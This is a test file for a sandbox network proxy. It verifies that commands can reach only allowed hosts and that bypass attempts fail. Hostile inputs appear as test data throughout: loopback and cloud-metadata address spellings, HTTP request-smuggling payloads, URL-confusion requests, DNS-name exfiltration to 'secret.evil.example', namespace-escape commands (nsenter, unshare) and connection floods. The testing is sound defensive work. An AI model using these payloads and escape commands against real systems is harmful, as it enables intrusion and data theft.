import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { createServer } from "node:net";
import { networkInterfaces } from "node:os";
import { type TestContext, test } from "node:test";
import { quoteForShell } from "../../src/process/shell-command.ts";
import { policyOf } from "../sandbox/test-workspace.ts";
import { domains, hostAddress, httpHost, node, openNetworkWorkspace, tcpHost } from "./network-workspace.ts";

// Each of these tries to get out, or to get something past the proxy; whether it did is looked up from the outside.

/** Sends bytes to the proxy and prints what comes back. */
const toProxy = (...parts: readonly string[]): string =>
  `(exec 9<>/dev/tcp/127.0.0.1/3128; ${parts.map((part) => `printf %b ${quoteForShell(part)} >&9`).join("; ")}; timeout 5 cat <&9; echo)`;

const get = (url: string, headers = ""): string =>
  toProxy(`GET ${url} HTTP/1.1\\r\\n${headers}Connection: close\\r\\n\\r\\n`);

const run = (code: string): string => `${node} -e ${quoteForShell(code)}`;

const privateAddresses = (): string[] =>
  Object.values(networkInterfaces()).flatMap(
    (entries) => entries?.map(({ address }) => address.split("%")[0] ?? "") ?? [],
  );

test("nothing but the proxy can be connected to", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const everywhere = await tcpHost(t, "::");
  const { port } = everywhere;
  const tries = [...privateAddresses(), hostAddress, "::ffff:127.0.0.1", "0.0.0.0", "10.0.2.2", "1.1.1.1"];
  const { output } = await workspace.run(
    `${tries.map((address) => `timeout 2 cat < /dev/tcp/${address}/${port}`).join("; ")}; ${run(`require("net").connect(${port}, "::1").on("error", () => console.log("no IPv6"))`)}; getent hosts example.org; echo end`,
    domains(["*"]),
  );
  assert.match(output, /no IPv6\nend\n$/);
  assert.equal(everywhere.connections(), 0);
  assert.deepEqual(workspace.decisions, []);
});

test("no datagram gets out", async (t) => {
  const { run: script } = await openNetworkWorkspace(t);
  const socket = createSocket("udp4");
  const received: string[] = [];
  await new Promise<void>((resolve) => socket.bind(0, "0.0.0.0", resolve));
  t.after(() => socket.close());
  const { port } = socket.address();
  const marked = new Promise<void>((resolve) =>
    socket.on("message", (message) => {
      received.push(message.toString());
      if (message.toString() === "from outside") resolve();
    }),
  );
  const addresses = [...privateAddresses(), "255.255.255.255", "224.0.0.1"];
  await script(addresses.map((address) => `echo inside > /dev/udp/${address}/${port}`).join("; "), domains(["*"]));
  socket.send("from outside", port, "127.0.0.1");
  await marked;
  assert.deepEqual(received, ["from outside"]);
});

test("abstract sockets of the host are out of reach", async (t) => {
  const { run: script } = await openNetworkWorkspace(t);
  const name = `fettle-test-${process.pid}`;
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.end();
  });
  await new Promise<void>((resolve) => server.listen(`\0${name}`, resolve));
  t.after(() => server.close());
  const code = `require("net").connect("\\0${name}").on("error", (e) => console.log(e.code)).on("connect", () => console.log("in"))`;
  assert.equal((await script(run(code), domains(["*"]))).output, "ECONNREFUSED\n");
  assert.equal(connections, 0);
});

const spellings =
  `127.0.0.1 127.0.0.1. 2130706433 0x7f000001 0x7f.1 127.1 0177.0.0.1 0 0.0.0.0 127.9.9.9 %31%32%37.0.0.1 localhost LOCALHOST.
  [::1] [::] [::ffff:127.0.0.1] [::ffff:7f00:1] [::127.0.0.1] [64:ff9b::7f00:1] [64:ff9b:1::7f00:1] [2002:7f00:1::] 169.254.169.254`.split(
    /\s+/,
  );

test("addresses of the host are refused in every spelling, by every protocol", async (t) => {
  const workspace = await openNetworkWorkspace(t, { resolve: async () => ["127.0.0.1", "::1", "::ffff:127.0.0.1"] });
  const everywhere = await tcpHost(t, "::");
  const { port } = everywhere;
  const socks = (host: string): string =>
    toProxy(
      "\\x05\\x01\\x00",
      `\\x05\\x01\\x00\\x03\\x${host.length.toString(16).padStart(2, "0")}${host}\\x${(port >> 8).toString(16)}\\x${(port & 255).toString(16)}`,
    );
  const own = privateAddresses().map((address) => (address.includes(":") ? `[${address}]` : address));
  for (const host of [...spellings, ...own]) {
    const { output } = await workspace.run(
      `${get(`http://${host}:${port}/`, "Host: example.org\\r\\n")}; ${toProxy(`CONNECT ${host}:${port} HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n`)}; ${socks(host)}`,
      domains(["*"]),
    );
    assert.match(output, /^HTTP\/1\.1 (?:403|400).*\nHTTP\/1\.1 (?:403|400)/s, host);
    assert.doesNotMatch(output, /reached/);
  }
  const bytes = "\\x05\\x01\\x00";
  const hex = `\\x${(port >> 8).toString(16)}\\x${(port & 255).toString(16)}`;
  await workspace.run(
    `${toProxy(bytes, `\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01${hex}`)}; ${toProxy(bytes, `\\x05\\x01\\x00\\x04${"\\x00".repeat(15)}\\x01${hex}`)}; ${toProxy(bytes, `\\x05\\x01\\x00\\x04${"\\x00".repeat(10)}\\xff\\xff\\x7f\\x00\\x00\\x01${hex}`)}`,
    domains(["*"]),
  );
  assert.equal(everywhere.connections(), 0);
  assert.deepEqual(
    workspace.decisions.filter(({ allowed }) => allowed),
    [],
  );
  assert.ok(workspace.decisions.length > spellings.length * 2);
  // A question about such an address would tempt somebody to say yes.
  assert.deepEqual(workspace.asked, []);
});

test("a denied host stays denied in every spelling, and as the address of another name", async (t) => {
  const workspace = await openNetworkWorkspace(t, { resolve: async () => [hostAddress] });
  const host = await httpHost(t);
  const policy = domains([hostAddress, "*"], { deny: [hostAddress, "bad.example"] });
  for (const spelling of [hostAddress, "0x7f.2", "2130706434", "[::ffff:7f00:2]", "BAD.example.", "good.example"]) {
    assert.match(
      (await workspace.run(get(`http://${spelling}:${host.port}/`, "Host: x\\r\\n"), policy)).output,
      /^HTTP\/1\.1 403/,
    );
  }
  assert.deepEqual(host.seen, []);
});

test("the host that is checked is the host that is asked, whatever the headers say", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const host = await httpHost(t);
  const other = await tcpHost(t, "127.0.0.1");
  const policy = domains([`${hostAddress}:${host.port}`]);
  const at = `${hostAddress}:${host.port}`;
  const closed = `127.0.0.1:${other.port}`;
  const { output } = await workspace.run(
    get(`http://${at}/a`, `Host: ${closed}\\r\\nHost: evil.example\\r\\n`),
    policy,
  );
  assert.match(output, /^HTTP\/1\.1 200/);
  assert.deepEqual(host.seen.splice(0), [`GET /a ${at}`]);
  const attempts = [
    get("/relative", `Host: ${at}\\r\\n`),
    get(`http://${at}@${closed}/`, `Host: ${at}\\r\\n`),
    get(`http://${closed}\\\\@${at}/`, `Host: ${at}\\r\\n`),
    get(`http://user@${at}/`, `Host: ${at}\\r\\n`),
    get(`http://${closed}#@${at}/`, `Host: ${at}\\r\\n`),
    get(`http://${closed}/http://${at}/`, `Host: ${at}\\r\\n`),
    get(`https://${at}/`, `Host: ${at}\\r\\n`),
    get(`ftp://${at}/`, `Host: ${at}\\r\\n`),
    get(`//${closed}/`, `Host: ${at}\\r\\n`),
    ...[`${at}@${closed}`, `${at}/@${closed}`, `${at}#`, `${at}:80`, hostAddress, `http://${at}`, closed].map(
      (target) => toProxy(`CONNECT ${target} HTTP/1.1\\r\\nHost: ${at}\\r\\n\\r\\n`),
    ),
  ];
  for (const attempt of attempts) {
    const refused = await workspace.run(attempt, policy);
    assert.match(refused.output, /^HTTP\/1\.1 (?:400|403)/, attempt);
  }
  assert.deepEqual(host.seen, []);
  assert.equal(other.connections(), 0);
});

test("bytes cannot be smuggled past the check of a request", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const host = await tcpHost(t, hostAddress, "HTTP/1.1 204 No Content\r\n\r\n");
  const at = `${hostAddress}:${host.port}`;
  const head = `POST http://${at}/ HTTP/1.1\\r\\nHost: ${at}\\r\\n`;
  const second = `GET http://${at}/smuggled HTTP/1.1\\r\\nHost: ${at}\\r\\n\\r\\n`;
  const refused = [
    `${head}Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n${second}`,
    `${head}Content-Length: 0\\r\\nContent-Length: 40\\r\\n\\r\\n${second}`,
    `${head}Content-Length: +4\\r\\n\\r\\nabcd${second}`,
    `${head}Transfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n${second}`,
    `${head}Transfer-Encoding: gzip, chunked\\r\\n\\r\\n0\\r\\n\\r\\n${second}`,
    `${head}Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n${second}`,
    `${head}X: a\\r\\n b\\r\\n\\tTransfer-Encoding: chunked\\r\\nContent-Length: x\\r\\n\\r\\n${second}`,
    `GET http://${at}/\\r\\nX: HTTP/1.1\\r\\nHost: ${at}\\r\\n\\r\\n`,
    `GET http://${at}/ HTTP/1.1\\nHost: ${at}\\rX: y\\n\\n`,
    `${head}X\\0: y\\r\\n\\r\\n`,
  ];
  for (const bytes of refused) {
    assert.match((await workspace.run(toProxy(bytes), domains([at]))).output, /^HTTP\/1\.1 (?:400|501)/, bytes);
  }
  assert.equal(host.received(), "");
  // Escapes stay escapes, and what speaks of the connection stays behind.
  const odd = `GET http://${at}/a%0d%0aX-Evil:%201 HTTP/1.1\\r\\nHost: x\\r\\nConnection: close, X-Secret, Content-Length\\r\\nX-Secret: 1\\r\\nProxy-Authorization: Basic eA==\\r\\nTE: trailers\\r\\nUpgrade: h2c\\r\\n\\r\\n`;
  await workspace.run(toProxy(odd), domains([at]));
  assert.equal(host.received(), `GET /a%0d%0aX-Evil:%201 HTTP/1.1\r\nHost: ${at}\r\nConnection: close\r\n\r\n`);
});

test("each request on a kept connection is checked, and one that does not wait is not served", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const [first, other] = [await httpHost(t), await httpHost(t)];
  const request = (port: number, name: string): string =>
    `GET http://${hostAddress}:${port}/${name} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`;
  const policy = domains([`${hostAddress}:${first.port}`]);
  const code = `const s = require("net").connect(3128, "127.0.0.1"); let sent = 0, text = ""; const next = () => s.write([${[request(first.port, "one"), request(other.port, "two")].map((text) => JSON.stringify(text).replaceAll("\\\\", "\\"))}][sent++] ?? "");
    s.on("data", (d) => { text += d; if (/hello|refused:/.test(text)) { console.log(text.split(" ")[1]); text = ""; sent < 2 ? next() : s.end(); } }); next();`;
  assert.equal((await workspace.run(run(code), policy)).output, "200\n403\n");
  assert.deepEqual(first.seen.splice(0).length, 1);
  await workspace.run(toProxy(request(first.port, "a") + request(other.port, "b") + request(first.port, "c")), policy);
  assert.ok(first.seen.length <= 1);
  assert.deepEqual(other.seen, []);
});

test("a redirect to the host is refused like any request", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const secret = await httpHost(t, (_request, response) => response.end("SECRET"), "127.0.0.1");
  const host = await httpHost(t, (_request, response) =>
    response.writeHead(302, { location: `http://127.0.0.1:${secret.port}/` }).end(),
  );
  const { output } = await workspace.run(
    `NO_PROXY= no_proxy= curl -sSL http://${hostAddress}:${host.port}/`,
    domains([hostAddress]),
  );
  assert.match(output, /^fettle: 127\.0\.0\.1:\d+ is refused/);
  assert.deepEqual([host.seen.length, secret.seen.length], [1, 0]);
});

test("a name leads only to addresses that were checked, and is looked up once", async (t) => {
  const answers: string[][] = [["127.0.0.1"], [hostAddress], ["127.0.0.1"], ["127.0.0.1", "::1", hostAddress], []];
  const asked: string[] = [];
  const workspace = await openNetworkWorkspace(t, {
    resolve: async (name) => {
      asked.push(name);
      return answers[asked.length - 1] ?? [];
    },
  });
  const host = await httpHost(t);
  const forbidden = await tcpHost(t, "127.0.0.1", "reached\n", host.port);
  const fetchName = `curl -s -o /dev/null -w '%{http_code} ' http://rebind.example:${host.port}/`;
  const { output } = await workspace.run(Array(5).fill(fetchName).join("; "), domains(["rebind.example", hostAddress]));
  assert.equal(output, "403 200 403 200 502 ");
  assert.deepEqual(asked, Array(5).fill("rebind.example"));
  assert.equal(forbidden.connections(), 0);
  assert.deepEqual(host.seen, Array(2).fill(`GET / rebind.example:${host.port}`));
});

test("a name is not looked up before it is allowed, for a name can carry data", async (t) => {
  const asked: string[] = [];
  const workspace = await openNetworkWorkspace(t, {
    resolve: async (name) => {
      asked.push(name);
      return [];
    },
  });
  await workspace.run(
    "curl -s http://secret.evil.example; curl -s https://secret.evil.example",
    domains(["good.example"]),
  );
  assert.deepEqual(asked, []);
  assert.deepEqual(
    workspace.asked.map(({ host, port, protocol, method }) => [host, port, protocol, method]),
    [
      ["secret.evil.example", 80, "http", "GET"],
      ["secret.evil.example", 443, "connect", null],
    ],
  );
});

test("tunnels lead to the port that is allowed", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const [open, other] = [await httpHost(t), await httpHost(t)];
  const { output } = await workspace.run(
    [open.port, other.port]
      .map((port) => `curl -sS -p -o /dev/null -w '%{http_connect} ' http://${hostAddress}:${port}/ 2>/dev/null`)
      .join("; "),
    domains([`${hostAddress}:${open.port}`]),
  );
  assert.equal(output, "200 403 ");
  assert.deepEqual([open.seen.length, other.seen.length], [1, 0]);
});

test("with some methods allowed, others and all tunnels are refused", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const host = await httpHost(t);
  const url = `http://${hostAddress}:${host.port}/`;
  const status = "curl -s -o /dev/null -w '%{http_code}/%{http_connect} '";
  const { output } = await workspace.run(
    `${status} ${url}; ${status} -I ${url}; ${status} -d x ${url}; ${status} -X DELETE ${url}; ${status} -p ${url}; ${status} -x socks5h://127.0.0.1:3128 ${url}`,
    domains([hostAddress], { methods: ["GET", "HEAD"] }),
  );
  assert.equal(output, "200/000 200/000 403/000 403/000 000/403 000/000 ");
  assert.equal(host.seen.length, 2);
});

test("one thread's commands cannot use another thread's permissions", async (t) => {
  const [allowed, closed] = [await openNetworkWorkspace(t), await openNetworkWorkspace(t)];
  const host = await httpHost(t);
  const url = `http://${hostAddress}:${host.port}/`;
  assert.equal((await allowed.run(`curl -s ${url}`, domains([hostAddress]))).output, "hello\n");
  const { output } = await closed.run(`curl -s ${url}; readlink /proc/self/ns/net`, domains());
  assert.match(output, /is refused/);
  const own = (await allowed.run("readlink /proc/self/ns/net", domains())).output;
  assert.ok(own.startsWith("net:[") && !output.includes(own));
  assert.deepEqual([host.seen.length, allowed.decisions.length, closed.decisions.length], [1, 1, 1]);
});

test("a stricter policy holds at once, for open tunnels too", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const host = await tcpHost(t, hostAddress, "hi\n");
  const at = `${hostAddress}:${host.port}`;
  const running = workspace.run(
    `(exec 9<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT ${at} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&9; cat <&9; echo over)`,
    domains([at]),
  );
  await host.until((open) => open === 1);
  await workspace.run("true", domains([at], { deny: [at] }));
  await host.until((open) => open === 0);
  assert.match((await running).output, /over\n$/);
});

test("a command cannot change its network or leave it", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const host = await tcpHost(t, "127.0.0.1");
  const { output } = await workspace.run(
    `exec 2>&1; before=$(readlink /proc/self/ns/net)
    ip link set lo down; ip addr add 127.77.0.1/8 dev lo; ip link add dummy0 type dummy; ip route add default dev lo; ip tuntap add mode tun
    ip netns add x; nsenter -t 1 -n true && echo ENTERED; nsenter --preserve-credentials -U -n -t 1 true && echo ENTERED; unshare -n true && echo UNSHARED; unshare -Urn true && echo UNSHARED
    for ns in /proc/[0-9]*/ns/net; do [ "$(readlink $ns)" = "$before" ] || echo OTHER $ns; nsenter --net=$ns true && echo ENTERED; done
    cat < /dev/tcp/127.0.0.1/${host.port}; grep -h Cap /proc/self/status | tr -d '0\\t\\n'; ls -l /proc/self/fd /proc/1/fd | grep -E 'ns/|net:|user:|socket:' && echo LEAK`,
    domains(["*"]),
  );
  assert.doesNotMatch(output, /ENTERED|UNSHARED|OTHER|LEAK|reached/);
  assert.match(output, /CapInh:CapPrm:CapEff:CapBnd:CapAmb:/);
  const { output: after } = await workspace.run("ip -o addr; ip route; ip -o link | wc -l", domains());
  assert.match(after, /^1: lo +inet 127\.0\.0\.1\/8 [^\n]*\n1: lo +inet6 ::1\/128 [^\n]*\n1\n$/);
  assert.equal(host.connections(), 0);
});

test("a command has the same descriptors and environment as without a network, but for variables of proxy and caches", async (t) => {
  const { workspace, root } = await openNetworkWorkspace(t);
  const look = async (policy: Parameters<typeof policyOf>[0]): Promise<string> => {
    const script =
      "for d in /proc/self/fd/*; do echo ${d##*/}; done; tr '\\0' '\\n' < /proc/1/environ | grep -vi -e proxy -e cache | sort";
    const started = await workspace.start({ script, cwd: root, policy: policyOf(policy) });
    assert.ok(started.ok);
    let output = "";
    started.command.onOutput((chunk) => {
      output += chunk.toString();
    });
    await started.command.exited;
    return output;
  };
  assert.equal(await look({ network: domains(["*"]) }), await look({}));
});

/** Many clients that do what clients should not; the proxy must stay there for one that does. */
const nuisances = (at: string): string =>
  `const net = require("net"); const open = () => { const s = net.connect(3128, "127.0.0.1"); s.on("error", () => {}); return s; };
  for (let i = 0; i < 300; i++) open();
  for (const bytes of [Buffer.alloc(1e6, 65), Buffer.from([5]), Buffer.from([5, 255]), Buffer.from([5, 1, 2]), Buffer.from([5, 3, 0]), Buffer.from([5, 1, 0, 5, 1]), Buffer.from([5, 1, 0, 5, 1, 0, 1, 127]), Buffer.from([5, 1, 0, 5, 2, 0, 1]), Buffer.from([5, 1, 0, 5, 1, 0, 9]), Buffer.from([5, 1, 0, 5, 1, 0, 3, 0]), Buffer.from([4, 1]), Buffer.from([22, 3, 1, 0]),
    "GET http://${at}/ HTTP/1.1\\r\\nHost: x\\r\\nX: " + "y".repeat(1e6), "CONNECT ${at} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", "POST http://${at}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 1000\\r\\n\\r\\n"]) {
    open().write(bytes); const reset = open(); reset.write(bytes, () => reset.resetAndDestroy()); }
  setTimeout(() => process.exit(), 300);`;

test("clients that misbehave do not take the proxy away", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const host = await httpHost(t);
  const at = `${hostAddress}:${host.port}`;
  for (let round = 0; round < 3; round += 1) await workspace.run(run(nuisances(at)), domains([at]));
  assert.equal((await workspace.run(`curl -s http://${at}/`, domains([at]))).output, "hello\n");
});

test("refused and broken connections do not use up the number of connections", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const host = await httpHost(t);
  const at = `${hostAddress}:${host.port}`;
  const requests = [
    "CONNECT no.example:443 HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET http://no.example/ HTTP/1.1\r\nHost: x\r\n\r\n",
    "CONNECT no.example:443 HTTP/1.1\r\nHost: x\r\n\r\nmore",
    "nonsense\r\n\r\n",
    "\x05\x01\x00\x05\x01\x00\x01\x01\x01\x01\x01\x00\x50more",
    "\x05\x01\x00\x05\x01",
    "",
  ];
  // Each waits for the end of the one before, as seen by the client alone.
  const code = `const net = require("net"); (async () => { for (let i = 0; i < 1400; i++) await new Promise((resolve) => {
    const s = net.connect(3128, "127.0.0.1", () => s.end(Buffer.from(${JSON.stringify(requests)}[i % ${requests.length}], "latin1"))); s.resume(); s.on("error", () => {}); s.on("close", resolve); }); })()`;
  const { output } = await workspace.run(`${run(code)}; curl -sS -m 20 http://${at}/`, domains([at]));
  assert.equal(output, "hello\n");
});

/** What a remote side can do wrong, each on its own connection. */
const badAnswers = [
  "",
  "nonsense\r\n\r\n",
  "HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n",
  "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
  `HTTP/1.1 200 OK\r\nX: ${"y".repeat(200_000)}\r\n\r\n`,
  "HTTP/1.1 99999 X\r\n\r\n",
  "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
];

test("answers that are none become an error of the proxy's, and half an answer is not a whole one", async (t: TestContext) => {
  const workspace = await openNetworkWorkspace(t);
  const all = [...badAnswers, "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nhalf"];
  let count = 0;
  const server = createServer((socket) => {
    socket.on("error", () => {});
    socket.once("data", () => socket.end(all[count++] ?? ""));
  });
  await new Promise<void>((resolve) => server.listen(0, hostAddress, resolve));
  t.after(() => server.close());
  const address = server.address();
  assert.ok(address !== null && typeof address === "object");
  const one = `curl -s -o /dev/null -w '%{http_code} ' http://${hostAddress}:${address.port}/ || echo "$? "`;
  const { output } = await workspace.run(all.map(() => one).join("; "), domains([hostAddress]));
  assert.equal(output, `${"502 ".repeat(badAnswers.length)}200 18 \n`);
});
